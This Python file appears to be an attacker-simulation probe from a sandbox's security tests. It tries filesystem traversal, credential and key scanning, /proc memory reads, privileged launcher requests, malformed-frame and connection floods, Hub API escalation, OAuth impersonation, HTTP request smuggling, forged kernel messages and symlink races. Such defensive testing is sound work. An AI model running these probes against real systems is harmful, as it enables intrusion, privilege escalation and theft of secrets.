"""What an attacker tries who runs any code as the single-user server. Prints what came of it as JSON.

Runs inside: standard library, pyzmq and what the server itself can import. ``facts`` hold what a well-informed
attacker may have been told from outside: host paths, process ids, ports, ids of other people's kernels.
"""
# ruff: noqa: BLE001, C901, PTH104, PTH108, PTH110, PTH112, PTH123, PTH208, PTH211, SIM115 - an attacker sees errors

from __future__ import annotations

import array
import hashlib
import hmac
import http.client
import json
import os
import re
import signal
import socket
import stat
import struct
import sys
import time
from collections.abc import Callable
from typing import Any

KEY = re.compile(rb"^enclave-[a-z0-9-]+-v1 [A-Za-z0-9+/=_-]{40,}", re.MULTILINE)
HUB = "/run/enclave/hub.sock"
LAUNCHER = "/run/enclave/launcher.sock"
PROGRAMS = ("/usr", "/run/enclave-runtime", "/proc", "/sys", "/bin", "/lib", "/lib64", "/sbin")


def tried(attempt: Callable[[], Any]) -> Any:
    """What it returned, or the name of its error."""
    try:
        return attempt()
    except OSError as fault:
        return f"error: {type(fault).__name__}"
    except Exception as fault:
        return f"error: {type(fault).__name__}: {fault}"


# ── files ───────────────────────────────────────────────────────────────────


def files() -> dict[str, Any]:
    """Every name that can be seen: inodes, sockets, suspicious names, contents that look like a key."""
    inodes: list[str] = []
    sockets: list[str] = []
    keys: list[str] = []
    writable: list[str] = []
    count = 0
    for top, folders, names in os.walk("/"):
        if top == "/":
            folders[:] = [name for name in folders if name not in ("proc", "sys")]
        if os.access(top, os.W_OK):
            writable.append(top)
        for name in names:
            path = f"{top.rstrip('/')}/{name}"
            try:
                found = os.lstat(path)
            except OSError:
                continue
            count += 1
            if stat.S_ISSOCK(found.st_mode):
                sockets.append(path)
            if path.startswith(PROGRAMS):
                if not path.startswith("/usr"):
                    inodes.append(f"{found.st_dev}:{found.st_ino}")
                continue
            inodes.append(f"{found.st_dev}:{found.st_ino}")
            if stat.S_ISREG(found.st_mode) and os.access(path, os.R_OK):
                with open(path, "rb") as file:
                    if KEY.search(file.read(1 << 20)):
                        keys.append(path)
    return {"count": count, "inodes": inodes, "sockets": sorted(sockets), "keys": keys, "writable": sorted(writable)}


def paths(facts: dict[str, Any]) -> dict[str, str]:
    """Opens each path of the host by name, as it is and by detours."""
    found = {}
    for path in facts["paths"]:
        for form in (
            path,
            f"/proc/1/root{path}",
            f"/proc/self/cwd/../../..{path}",
            f"/run/enclave/kernels/../../..{path}",
        ):
            result = tried(lambda form=form: os.listdir(form) if os.path.isdir(form) else open(form, "rb").close())
            if not str(result).startswith("error"):
                found[form] = str(result)[:200]
    links = {}
    for number, path in enumerate(facts["paths"]):
        link = f"/home/person/code/link{number}"
        os.symlink(path, link)
        result = tried(lambda link=link: os.listdir(link) if os.path.isdir(link) else open(link, "rb").close())
        os.unlink(link)
        if not str(result).startswith("error"):
            links[path] = str(result)[:200]
    return {**found, **links}


# ── processes, descriptors, environment ─────────────────────────────────────


def processes(facts: dict[str, Any]) -> dict[str, Any]:
    pids = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
    lines = {
        pid: tried(lambda pid=pid: open(f"/proc/{pid}/cmdline").read().replace("\0", " ").strip()[:200]) for pid in pids
    }
    reached = []
    for pid in facts["host_pids"]:
        if pid in pids:
            continue  # a number that means one of ours in here
        if not str(tried(lambda pid=pid: os.kill(pid, 0))).startswith("error"):
            reached.append(pid)
        if os.path.exists(f"/proc/{pid}"):
            reached.append(pid)
    memory = {}
    for pid in pids:
        for name in ("mem", "environ", "root", "cwd", "fd"):
            path = f"/proc/{pid}/{name}"
            result = tried(
                lambda path=path: os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(64).hex()
            )
            memory[f"{pid}/{name}"] = str(result)[:80]
    return {"lines": lines, "reached": reached, "own": os.getpid(), "memory": memory}


def environment() -> dict[str, str]:
    return dict(os.environ)


# ── network ─────────────────────────────────────────────────────────────────


def network(facts: dict[str, Any]) -> dict[str, Any]:
    open_ports = []
    for port in facts["ports"]:
        for address in (("127.0.0.1", port), ("::1", port)):
            family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
            with socket.socket(family) as sock:
                sock.settimeout(1)
                if not str(tried(lambda sock=sock, address=address: sock.connect(address))).startswith("error"):
                    open_ports.append(address)
    with socket.socket(socket.AF_UNIX) as sock:
        abstract = tried(lambda: sock.connect("\0" + facts["abstract"]))
    return {
        "ports": open_ports,
        "abstract": str(abstract),
        "interfaces": [name for _, name in socket.if_nameindex()],
        "routes": len(open("/proc/net/route").readlines()) - 1,
        "names": str(tried(lambda: socket.getaddrinfo("enclave.example", 443))),
        "unix": [line.split()[-1] for line in open("/proc/net/unix").readlines()[1:] if "/" in line or "@" in line],
    }


# ── the launcher's socket ───────────────────────────────────────────────────


def canonical(value: Any) -> bytes:
    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()


def raw(path: str, data: bytes, *, fds: tuple[int, ...] = (), shut: bool = False) -> str:
    """Sends bytes; the answer's error code, ``ok`` or how the connection ended."""
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(20)
        sock.connect(path)
        if fds:
            rights = array.array("i", fds).tobytes()
            sock.sendmsg([data[:4]], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
            data = data[4:]
        try:
            sock.sendall(data)
            if shut:
                sock.shutdown(socket.SHUT_WR)
            head = b""
            while len(head) < 4:
                part = sock.recv(4 - len(head))
                if not part:
                    return "closed"
                head += part
            (length,) = struct.unpack(">I", head)
            body = b""
            while len(body) < length:
                body += sock.recv(65536)
        except (BrokenPipeError, ConnectionResetError):
            return "closed"
    answer = json.loads(body)
    return json.dumps(answer["body"]) if answer["ok"] else f"{answer['error']['family']}/{answer['error']['code']}"


def frame(value: Any) -> bytes:
    data = value if isinstance(value, bytes) else canonical(value)
    return struct.pack(">I", len(data)) + data


def ask(kind: str, body: dict[str, Any], *, path: str = LAUNCHER, fds: tuple[int, ...] = ()) -> str:
    return str(tried(lambda: raw(path, frame({"v": 1, "id": "a", "type": kind, "body": body}), fds=fds)))


def launcher(facts: dict[str, Any]) -> dict[str, str]:
    """The requests that only daemons may make, and this socket's own about somebody else's kernel."""
    other = {"kernel": facts["foreign_kernel"]}
    server = {"person": "rosa", "base_url": "/user/rosa/", "hub_api_url": "http://127.0.0.1:1/", "environment": {}}
    check = {"module": "enclave.disclosure.parse", "names": [], "request": {}, "timeout_s": 1}
    found = {
        "kernels": ask("launcher.kernels", {}),
        "kernel_end": ask("launcher.kernel_end", {**other, "reason": "stopped"}),
        "server_start": ask("launcher.server_start", server),
        "server_stop": ask("launcher.server_stop", {"server": facts["server"]}),
        "server_poll": ask("launcher.server_poll", {"server": facts["server"]}),
        "person_socket": ask("launcher.open_person_socket", {"token": os.environ["JUPYTERHUB_API_TOKEN"]}),
        "service_socket": ask("launcher.open_service_socket", {"service": "reports"}),
        "check_run": ask("launcher.check_run", check),
    }
    for name in facts["requests"]:
        found[f"foreign {name}"] = ask(name, {})
    for name in ("poll", "interrupt", "restart", "kill", "stop"):
        found[f"other.{name}"] = ask(f"kernel.{name}", other)
    found["other.list"] = ask("kernel.list", {})
    found["start.other_project"] = ask("kernel.start", {"project": "secret-project"})
    found["start.service"] = ask("kernel.start", {"project": "demo", "person": "service:reports"})
    found["start.traversal"] = ask("kernel.start", {"project": "demo", "path": "../../../keys"})
    found["start.absolute"] = ask("kernel.start", {"project": "demo", "path": facts["paths"][0]})
    found["start.nul"] = ask("kernel.start", {"project": "demo", "path": "a\0b/c"})
    found["start.line"] = ask("kernel.start", {"project": "demo\n"})
    found["start.terminal"] = ask("kernel.start", {"project": "demo", "session": "\x1b[2J"})
    found["start.role"] = ask("kernel.start", {"project": "demo", "role": "operator"})
    return found


def frames() -> dict[str, str]:
    """What is no message."""
    good = canonical({"v": 1, "id": "a", "type": "kernel.list", "body": {}})
    deep = b'{"a":' * 100_000
    read, write = os.pipe()
    cases = {
        "endless": lambda: raw(LAUNCHER, b"\xff\xff\xff\xff" + b"x" * 1000),
        "half": lambda: raw(LAUNCHER, struct.pack(">I", 500) + good, shut=True),
        "empty": lambda: raw(LAUNCHER, frame(b"")),
        "http": lambda: raw(LAUNCHER, b"GET / HTTP/1.1\r\n\r\n"),
        "no_json": lambda: raw(LAUNCHER, frame(b"\x00\xff\x00\xff")),
        "spaces": lambda: raw(LAUNCHER, frame(good.replace(b":", b": "))),
        "double": lambda: raw(LAUNCHER, frame(b'{"body":{},"id":"a","id":"b","type":"kernel.list","v":1}')),
        "deep": lambda: raw(LAUNCHER, frame(deep)),
        "list": lambda: raw(LAUNCHER, frame(b"[]")),
        "nan": lambda: raw(LAUNCHER, frame(b'{"body":{},"id":"a","type":"kernel.list","v":NaN}')),
        "version": lambda: raw(LAUNCHER, frame({"v": 2, "id": "a", "type": "kernel.list", "body": {}})),
        "true": lambda: raw(LAUNCHER, frame({"v": True, "id": "a", "type": "kernel.list", "body": {}, "uid": 0})),
        "extra": lambda: raw(LAUNCHER, frame({"v": 1, "id": "a", "type": "kernel.list", "body": {"person": "olga"}})),
        "envelope": lambda: raw(LAUNCHER, frame({"v": 1, "id": "a", "type": "kernel.list", "body": {}, "as": "olga"})),
        "kind": lambda: raw(LAUNCHER, frame({"v": 1, "id": "a", "type": ["kernel.list"], "body": {}})),
        "descriptor": lambda: raw(LAUNCHER, frame(good), fds=(read, write)),
        "many_descriptors": lambda: raw(LAUNCHER, frame(good), fds=(read,) * 200),
        "surrogate": lambda: raw(LAUNCHER, frame(b'{"body":{"path":"\\ud800"},"id":"a","type":"kernel.start","v":1}')),
    }
    found = {name: str(tried(case)) for name, case in cases.items()}
    waiting = []
    for _ in range(150):
        sock = socket.socket(socket.AF_UNIX)
        waiting.append(sock)
        if str(tried(lambda sock=sock: sock.connect(LAUNCHER))).startswith("error"):
            break
    found["with_150_waiting"] = str(tried(lambda: raw(LAUNCHER, frame(good))))[:12]
    for sock in waiting:
        sock.close()
    end = time.monotonic() + 60
    while not found.get("after", "").startswith('{"kernels') and time.monotonic() < end:
        found["after"] = str(tried(lambda: raw(LAUNCHER, frame(good))))[:12]
    return found


# ── daemons ─────────────────────────────────────────────────────────────────


def daemons(facts: dict[str, Any]) -> dict[str, str]:
    """Every socket of the host by every name an attacker may know."""
    found = {}
    for path in facts["sockets"]:
        for form in (path, f"/proc/1/root{path}", f"/run/enclave/../..{path}"):
            with socket.socket(socket.AF_UNIX) as sock:
                sock.settimeout(2)
                found[form] = str(tried(lambda sock=sock, form=form: sock.connect(form)))
    return found


# ── the Hub's API behind the gate ───────────────────────────────────────────


def hub(method: str, path: str, *, body: bytes | None = None, token: str | None = None, **headers: str) -> int | str:
    def go() -> int:
        connection = http.client.HTTPConnection("hub", timeout=30)
        connection.sock = socket.socket(socket.AF_UNIX)
        connection.sock.settimeout(10)
        connection.sock.connect(HUB)
        held = os.environ["JUPYTERHUB_API_TOKEN"] if token is None else token
        connection.request(method, path, body=body, headers={"Authorization": f"token {held}", **headers})
        return connection.getresponse().status

    return tried(go)


def smuggled() -> list[int]:
    """Two requests in one: a length and chunks that disagree. The statuses of all answers."""
    token = os.environ["JUPYTERHUB_API_TOKEN"]
    inner = f"GET /hub/api/users HTTP/1.1\r\nHost: hub\r\nAuthorization: token {token}\r\n\r\n"
    data = (
        "POST /hub/api/users/rosa/activity HTTP/1.1\r\nHost: hub\r\n"
        f"Authorization: token {token}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(inner) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}"
    )
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(3)
        sock.connect(HUB)
        sock.sendall(data.encode())
        seen = b""
        try:
            while part := sock.recv(65536):
                seen += part
        except TimeoutError:
            pass
    return [int(one) for one in re.findall(rb"HTTP/1\.[01] (\d{3})", seen)]


def hub_api(facts: dict[str, Any]) -> dict[str, Any]:
    activity = json.dumps({"last_activity": "2030-01-01T00:00:00Z"}).encode()
    port = facts["ports"][0]
    found: dict[str, Any] = {
        "allowed GET /hub/api": hub("GET", "/hub/api"),
        "allowed GET /hub/api/user": hub("GET", "/hub/api/user"),
        "allowed POST activity": hub(
            "POST", "/hub/api/users/rosa/activity", body=b'{"last_activity": "2020-01-01T00:00:00Z"}'
        ),
    }
    for method, path in (
        ("GET", "/hub/api/users"), ("GET", "/hub/api/users/olga"), ("GET", "/hub/api/users/rosa"),
        ("GET", "/hub/api/info"), ("GET", "/hub/api/proxy"), ("GET", "/hub/api/groups"), ("GET", "/hub/api/services"),
        ("GET", "/hub/api/users/rosa/tokens"), ("POST", "/hub/api/users/rosa/tokens"),
        ("POST", "/hub/api/users/olga/tokens"), ("POST", "/hub/api/users/olga/server"),
        ("DELETE", "/hub/api/users/rosa/server"), ("POST", "/hub/api/users/olga/activity"),
        ("POST", "/hub/api/users/rosa/../olga/activity"), ("POST", "/hub/api/users/rosa%2f..%2folga/activity"),
        ("POST", "/hub/api/users/rosa/activity/../../olga/activity"), ("POST", "/hub/api/shutdown"),
        ("GET", "/hub/api/user?include_stopped_servers"), ("GET", "/hub/api/../api/users"), ("GET", "//hub/api/users"),
        ("GET", "/hub/api/%75sers"), ("GET", "/hub/api/user/../users"), ("GET", "/hub/api/user%00"),
        ("GET", "/hub/admin"), ("GET", "/hub/token"), ("GET", "/services/console/"), ("GET", "/"),
        ("PUT", "/hub/api/user"), ("PATCH", "/hub/api/user"), ("OPTIONS", "/hub/api/users"), ("HEAD", "/hub/api/users"),
        ("GET", f"http://127.0.0.1:{port}/hub/api/users"), ("CONNECT", f"127.0.0.1:{port}"), ("TRACE", "/hub/api/user"),
        ("GET", "/hub/api/authorizations/token/x"), ("GET", "/hub/api/oauth2/authorize"),
    ):  # fmt: skip
        found[f"{method} {path}"] = hub(method, path, body=activity if path.endswith("activity") else None)
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    for client in ("service-console", "service-enclave-cli", "jupyterhub-user-olga"):
        body = f"grant_type=authorization_code&client_id={client}&code=x&client_secret=x".encode()
        found[f"oauth as {client}"] = hub("POST", "/hub/api/oauth2/token", body=body, **form)
    body = b"grant_type=client_credentials&client_id=jupyterhub-user-rosa&scope=admin:users"
    found["oauth client_credentials"] = hub("POST", "/hub/api/oauth2/token", body=body, **form)
    body = b"grant_type=authorization_code&client_id=jupyterhub-user-rosa&client_id=service-console&code=x"
    found["oauth two clients"] = hub("POST", "/hub/api/oauth2/token", body=body, **form)
    found["large body"] = hub("POST", "/hub/api/users/rosa/activity", body=b"x" * 200_000)
    for name, token in facts["tokens"].items():
        found[f"user with the token of {name}"] = hub("GET", "/hub/api/user", token=token)
    found["smuggled"] = tried(smuggled)
    return found


# ── the tap in front of a kernel ────────────────────────────────────────────


class Front:
    """The front of a kernel of one's own, without Jupyter's server between."""

    def __init__(self, connection: dict[str, Any]) -> None:
        import zmq

        self.key = connection["key"].encode()
        self.context = zmq.Context()
        self.sockets = {}
        for channel in ("shell", "control"):
            sock = self.context.socket(zmq.DEALER)
            sock.linger = 0
            sock.connect(f"ipc://{connection['ip']}-{connection[channel + '_port']}")
            self.sockets[channel] = sock

    def frames(self, kind: str, content: dict[str, Any], *, key: bytes | None = None, message: str = "") -> list[bytes]:
        header = {"msg_id": message or os.urandom(8).hex(), "msg_type": kind, "session": "s", "username": "rosa",
                  "version": "5.3", "date": "2026-01-01T00:00:00Z"}  # fmt: skip
        parts = [json.dumps(part).encode() for part in (header, {}, {}, content)]
        mac = hmac.new(self.key if key is None else key, digestmod=hashlib.sha256)
        for part in parts:
            mac.update(part)
        return [b"<IDS|MSG>", mac.hexdigest().encode(), *parts]

    def send(self, channel: str, parts: list[bytes], *, wait_s: float = 4) -> str:
        sock = self.sockets[channel]
        sock.send_multipart(parts)
        if not sock.poll(round(wait_s * 1000)):
            return "no answer"
        answer = json.loads(sock.recv_multipart()[-1])
        return f"{answer.get('status')} {answer.get('ename', '')}".strip()


def tap(facts: dict[str, Any]) -> dict[str, str]:
    """Messages that no notebook sends, to a kernel of our own."""
    started = ask("kernel.start", {"project": "demo", "path": "demo/x.ipynb", "session": "attack"})
    kernel = json.loads(started)
    front = Front(kernel["connection"])
    code = {"code": "1", "silent": False, "store_history": True, "allow_stdin": False, "user_expressions": {}}
    honest = front.frames("execute_request", code)
    evil = {**code, "code": "ran_without_record = True"}
    arguments = {"expression": "ran_without_record = True"}
    debug = {"type": "request", "seq": 1, "command": "evaluate", "arguments": arguments}
    found = {
        "honest": front.send("shell", honest, wait_s=20),
        "replayed": front.send("shell", honest, wait_s=1.5),
        "wrong_key": front.send("shell", front.frames("execute_request", evil, key=b"0" * 64), wait_s=1),
        "no_key": front.send("shell", front.frames("execute_request", evil, key=b""), wait_s=1),
        "on_control": front.send("control", front.frames("execute_request", evil)),
        "debug": front.send("control", front.frames("debug_request", debug)),
        "subshell": front.send("control", front.frames("create_subshell_request", {})),
        "unknown": front.send("shell", front.frames("apply_request", evil)),
        "no_delimiter": front.send("shell", [b"x"] * 6, wait_s=0.5),
        "few_parts": front.send("shell", honest[:3], wait_s=0.5),
        "large": front.send("shell", front.frames("execute_request", {**code, "code": "#" * (1 << 21)}), wait_s=15),
    }  # fmt: skip
    check = {**code, "code": "assert 'ran_without_record' not in globals()"}
    found["still_works"] = front.send("shell", front.frames("execute_request", check), wait_s=15)
    found["kernel"] = kernel["kernel"]
    found["stopped"] = ask("kernel.stop", {"kernel": kernel["kernel"]})
    front.context.destroy(0)
    return found


# ── its own folder, its own limits ──────────────────────────────────────────


def links(facts: dict[str, Any]) -> dict[str, str]:
    """Puts links where daemons look: the server's socket, and folders in the code folder."""
    os.rename("/run/enclave/server.sock", "/run/enclave/kept.sock")
    found = {}
    try:
        for name, path in facts["behind_links"].items():
            os.symlink(path, "/run/enclave/server.sock")
            time.sleep(facts["link_s"])
            os.unlink("/run/enclave/server.sock")
            found[name] = "set"
    finally:
        os.rename("/run/enclave/kept.sock", "/run/enclave/server.sock")
    return found


def limits() -> dict[str, Any]:
    import resource

    status = dict(line.split(":\t") for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    return {
        "caps": status["CapEff"].strip(),
        "gained": str(tried(lambda: os.setuid(0))),
        "core": resource.getrlimit(resource.RLIMIT_CORE),
        "stopped": str(tried(lambda: os.kill(1, signal.SIGSTOP))),
        "uid_map": open("/proc/self/uid_map").read().split()[2],
    }


def main() -> None:
    facts = json.loads(sys.argv[1])
    parts: dict[str, Callable[[], Any]] = {
        "files": files,
        "paths": lambda: paths(facts),
        "processes": lambda: processes(facts),
        "environment": environment,
        "network": lambda: network(facts),
        "launcher": lambda: launcher(facts),
        "frames": frames,
        "daemons": lambda: daemons(facts),
        "hub": lambda: hub_api(facts),
        "tap": lambda: tap(facts),
        "links": lambda: links(facts),
        "limits": limits,
    }
    sys.stdout.write(json.dumps({name: tried(parts[name]) for name in facts["parts"]}))


if __name__ == "__main__":
    main()
